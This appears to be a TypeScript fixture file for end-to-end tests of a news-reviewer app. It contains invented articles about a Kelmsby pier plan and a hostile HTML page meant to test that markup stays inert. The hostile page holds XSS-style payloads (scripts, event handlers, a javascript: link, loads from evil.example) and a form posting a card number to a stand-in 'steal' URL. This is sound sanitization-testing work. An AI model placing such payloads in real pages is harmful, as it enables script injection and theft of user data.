// Invented articles for the end-to-end tests of the reviewer app: one long article to review, a handful of short ones
// that repeat its jobs figure (reworded, once changed) on other sites and days, and a page full of hostile markup.

/** The article pasted into the app: a harbour town, a ministry, bounded figures, named, vague and hedged sources. */
export const PIER_TITLE = 'Kelmsby Pier Plan Meets Growing Anger';

/** Its text (about 250 words). */
export const PIER_TEXT = [
  PIER_TITLE,
  '',
  'The Ministry of Maritime Affairs announced on Thursday that it will spend 18 million euros rebuilding the crumbling north pier in Kelmsby, a fishing town of some 20,000 people on the eastern coast.',
  '',
  'The pier works will create at least 40 jobs, according to Hanna Lindqvist, a spokesperson for the ministry. From next summer, up to 3,000 cruise passengers could land each day.',
  '',
  'Experts say the plan is a reckless gamble that could devastate the fishing fleet. A study by the Coastal Research Institute found that catches in the bay fell by 35 percent between 2015 and 2022.',
  '',
  'If the mayor is to be believed, tourism income in the town will double within five years. Mayor Peter Brandt told the Kelmsby Herald that every family in the town would feel the difference.',
  '',
  'Local fishermen called the scheme a shameful betrayal of the people who built the harbour. "They are destroying everything our grandfathers left us," said Olav Ness, who has fished from Kelmsby for 31 years. Some residents claim the ministry never consulted them at all.',
  '',
  'Officials said the dredging would begin in March and last about nine months, closing the inner basin to all boats. The opposition has demanded an inquiry into the contract, which was awarded without a public tender.',
  '',
  'The ministry insists that the disastrous decline of the old pier left it no choice. Critics reply that the town is being sold to cruise companies for almost nothing.',
].join('\n');

/** Metadata typed into the analyze form for {@link PIER_TEXT}. */
export const PIER_META = { site: 'eastcoast-courier.example', published: '2024-05-16' } as const;

/** Short articles stored before the flow: the jobs figure on other sites and days (40, at least 40, about 45), and an unrelated one. */
export const SEED_ARTICLES: readonly { title: string; site: string; published: string; text: string }[] = [
  {
    title: 'Ministry Backs Kelmsby Pier Rebuild',
    site: 'kelmsby-herald.example',
    published: '2024-05-02',
    text: 'The Ministry of Maritime Affairs confirmed plans to rebuild the north pier in Kelmsby. The pier works will create 40 jobs, the ministry said on Wednesday.',
  },
  {
    title: 'Pier Works to Bring Jobs to Kelmsby',
    site: 'coastal-times.example',
    published: '2024-05-09',
    text: 'Rebuilding the Kelmsby north pier will create at least 40 jobs, according to the Ministry of Maritime Affairs. Work on the pier is expected to start in March.',
  },
  {
    title: 'Kelmsby Pier Jobs Estimate Grows',
    site: 'northsea-daily.example',
    published: '2024-06-01',
    text: 'The pier works will create about 45 jobs, the Ministry of Maritime Affairs said. Fishermen in the town remain opposed to the plan.',
  },
  {
    title: 'Ferry Timetable Changes in the Bay',
    site: 'bay-courier.example',
    published: '2024-04-20',
    text: 'The bay ferry will run two fewer crossings on Sundays from April, the operator said. Passengers say the change will leave the islands cut off in the evenings.',
  },
];

/** An HTML page trying every way to run code, load outside resources or navigate away; all of it must stay inert. */
export const HOSTILE_HTML = `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<base href="http://evil.example/">
<title>Harbour Board Accounts Questioned</title>
<style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/bg.png); }</style>
<link rel="stylesheet" href="http://evil.example/style.css">
<script>window.__pwned = 'head script';</script>
</head>
<body onload="window.__pwned = 'body onload'">
<article>
<h1>Harbour Board Accounts Questioned</h1>
<p>The harbour board of Westerby spent at least 2.4 million euros on consultants last year, according to the regional audit office. <script>window.__pwned = 'inline script'; alert('pwned');</script> The board says the figure includes the new ferry terminal.</p>
<p>Experts say the accounts are a <img src="http://evil.example/pixel.png" onerror="window.__pwned = 'img onerror'"> scandal that nobody wants to explain. <a href="javascript:window.__pwned='link'">Read the audit</a> before the board meets again.</p>
<p>The chair of the board, Marta Kowal, told the Westerby Post that up to 300 moorings would be sold. <svg onload="window.__pwned = 'svg onload'"><circle r="4"></circle></svg> Some residents call the sale a betrayal.</p>
<p>The board will publish its answer in June. <iframe src="http://evil.example/frame.html"></iframe><object data="http://evil.example/object.swf"></object>
<span onclick="window.__pwned = 'click'" style="background:url(http://evil.example/span.png)">Click the audit summary</span> for details.</p>
<form action="http://evil.example/steal" method="post"><input name="card" value="1234"><button>Send</button></form>
<p>Literal markup in the text: &lt;script&gt;window.__pwned = 'escaped'&lt;/script&gt; must show as words.</p>
</article>
</body></html>`;
